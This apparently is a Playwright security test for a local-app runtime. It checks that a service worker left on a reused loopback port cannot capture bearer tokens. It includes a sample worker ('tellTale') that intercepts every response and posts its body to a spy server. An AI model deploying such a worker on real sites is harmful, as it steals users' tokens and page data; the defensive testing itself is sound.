import { spawn } from "node:child_process";
import { once } from "node:events";
import { createServer, type RequestListener, type Server } from "node:http";
import { type AddressInfo, createServer as createHolder } from "node:net";
import { createInterface } from "node:readline";
import { fileURLToPath } from "node:url";
import type { Browser } from "@playwright/test";
import { test } from "../kit/host.ts";
import { tryAll } from "./attempt.ts";

/*
 * Ports are given out again: whatever served on the app's before may have left a service worker in the browser, which then
 * stands before everything that is asked of the app.
 */

test("a service worker that an earlier server left on the port gets no bearer, and is gone after that", async ({
  host,
  chromiumBrowser,
}, info) => {
  test.skip(host !== "browser", "Under Electron nothing listens on loopback: the app's scheme is its own.");
  await tryAll(info, "browser", chromiumBrowser as Browser, [
    {
      id: "a service worker of an earlier server on the app's port",
      category: "stolen tokens",
      stoppedBy: "runtime",
      attempt: workerLeftBehind,
      expect:
        /^the worker saw 403 basic; then no worker; its link 403; a new link: the page, where no worker looks on$/,
    },
  ]);
});

async function workerLeftBehind(browser: Browser): Promise<string> {
  const seen: { readonly status: number; readonly type: string; readonly body: string }[] = [];
  const spy = await listen(async (request, response) => {
    seen.push(JSON.parse(Buffer.concat(await request.toArray()).toString("utf8")) as (typeof seen)[number]);
    response.end();
  });
  const earlier = await listen((request, response) => {
    const script = request.url === "/worker.js";
    response.setHeader("Content-Type", script ? "text/javascript" : "text/html");
    response.end(script ? tellTale(spy.port) : "<!doctype html>");
  });
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    await page.goto(`http://127.0.0.1:${earlier.port}/`);
    await page.evaluate("navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)");
    await earlier.close();
    const app = await originOn(earlier.port);
    try {
      seen.length = 0;
      const link = await app.link();
      await page.goto(link);
      const [first] = seen;
      const workers = await page.evaluate("navigator.serviceWorker.getRegistrations().then(({ length }) => length)");
      const again = await page.goto(link);
      const looked = seen.length;
      await page.goto(await app.link());
      const title = await page.title();
      return [
        `the worker saw ${seen.some(({ body }) => body.includes("<title>")) ? "THE PAGE" : `${first?.status} ${first?.type}`}`,
        `then ${workers === 0 ? "no" : workers} worker`,
        `its link ${again?.status()}`,
        `a new link: ${title}, where ${seen.length === looked ? "no worker" : "THE WORKER"} looks on`,
      ].join("; ");
    } finally {
      await app.close();
    }
  } finally {
    await context.close();
    await Promise.all([spy.close(), earlier.close()]);
  }
}

/** A worker that lets everything through and tells what came of it. */
const tellTale = (spy: number): string => `
  addEventListener("install", () => skipWaiting());
  addEventListener("activate", (event) => event.waitUntil(clients.claim()));
  addEventListener("fetch", (event) => event.respondWith((async () => {
    const response = await fetch(event.request);
    const { status, type } = response;
    const body = type === "opaqueredirect" ? "" : await response.clone().text();
    await fetch("http://127.0.0.1:${spy}/", { method: "POST", mode: "no-cors", body: JSON.stringify({ status, type, body }) });
    return response;
  })()));`;

interface Listening {
  readonly port: number;
  close(): Promise<void>;
}

async function listen(answer: RequestListener): Promise<Listening> {
  const server = createServer(answer);
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return { port: portOf(server), close: () => closed(server) };
}

const portOf = (server: Pick<Server, "address">): number => (server.address() as AddressInfo).port;

async function closed(server: Server): Promise<void> {
  if (!server.listening) return;
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
}

/** An origin of the browser host on a port of ours: a process of its own, which is handed the port. */
async function originOn(port: number) {
  const holder = createHolder().listen(port, "127.0.0.1");
  await once(holder, "listening");
  const { fd } = (holder as unknown as { readonly _handle: { readonly fd: number } })._handle;
  const child = spawn(
    process.execPath,
    [fileURLToPath(import.meta.resolve("@locara/runtime/testing/origin-on-port"))],
    {
      stdio: ["pipe", "pipe", "inherit", fd],
    },
  );
  holder.close();
  const lines = createInterface({ input: child.stdout as NodeJS.ReadableStream });
  const said = lines[Symbol.asyncIterator]();
  let asked = false;
  return {
    async link(): Promise<string> {
      if (asked) child.stdin?.write("\n");
      asked = true;
      return (await said.next()).value as string;
    },
    async close(): Promise<void> {
      const ended = once(child, "exit");
      child.stdin?.end();
      await ended;
    },
  };
}
